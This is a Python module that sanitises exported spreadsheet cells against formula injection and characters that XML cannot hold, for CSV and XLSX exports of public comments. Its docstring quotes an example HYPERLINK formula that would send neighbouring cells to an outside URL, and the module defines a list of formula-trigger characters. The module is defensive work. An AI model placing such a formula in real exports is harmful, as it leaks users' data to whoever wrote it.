"""A safe spreadsheet cell, for every export (the comment matrix, the pathfinder board).

What members and the public type ends up in files the secretariat opens in Excel or
LibreOffice. A cell must show that text, never run it: `=HYPERLINK("http://…?"&C2, "see")`
in a comment would otherwise send the neighbouring cells to whoever wrote it. And a character
that XML cannot hold (a vertical tab pasted from Word) must not make the XLSX export fail.
Every exported value passes through `csv_value` or `xlsx_cell`; nothing else writes a cell.
"""

import csv
import datetime
import re

from openpyxl.cell import WriteOnlyCell

# Excel and LibreOffice read a CSV cell starting with one of these as a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# Everything outside XML 1.0's Char production: C0 controls other than tab, line feed and
# carriage return; lone surrogates; U+FFFE and U+FFFF.
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
# Word pastes a line break inside a paragraph as a vertical tab and a page break as a form feed.
_LINE_BREAKS = re.compile("[\x0b\x0c]")


def cell_text(text: str) -> str:
    """The text as a spreadsheet can hold it, the same in CSV and XLSX.

    A vertical tab or form feed becomes the line break the writer meant. Any other character
    XML cannot hold becomes U+FFFD (�) rather than vanishing: "5", NUL, "8" must not read "58",
    and the reader sees that something was there.
    """
    return _NOT_XML.sub("\ufffd", _LINE_BREAKS.sub("\n", text))


def csv_value(value):
    """A CSV field: text that a spreadsheet would take for a formula gets a leading
    apostrophe (OWASP's advice; Excel then shows it as text); dates and times as ISO text;
    numbers stay numbers."""
    if isinstance(value, datetime.datetime):
        return value.isoformat(sep=" ")
    if isinstance(value, datetime.date):
        return value.isoformat()
    if isinstance(value, str):
        text = cell_text(value)
        return "'" + text if text.startswith(FORMULA_TRIGGERS) else text
    return value


class _Echo:
    def write(self, value):
        return value


def csv_lines(rows):
    """CSV lines, one at a time, for a streaming response: UTF-8 with a BOM so that Excel
    reads accents right (LibreOffice skips the BOM too)."""
    writer = csv.writer(_Echo())
    yield "\ufeff"
    for row in rows:
        yield writer.writerow([csv_value(value) for value in row])


def xlsx_cell(sheet, value) -> WriteOnlyCell:
    """A cell for a write-only sheet: text is always a string cell, never a formula or an
    error, and keeps its exact characters (no apostrophe needed: the cell type says "text");
    numbers and dates keep their type so that they sort and sum. (A carriage return reads back
    as a line feed: XML 1.0 readers normalise line ends.)"""
    if not isinstance(value, str):
        return WriteOnlyCell(sheet, value=value)
    cell = WriteOnlyCell(sheet, value=cell_text(value))
    cell.data_type = "s"  # openpyxl makes "=…" a formula and "#N/A" an error
    return cell
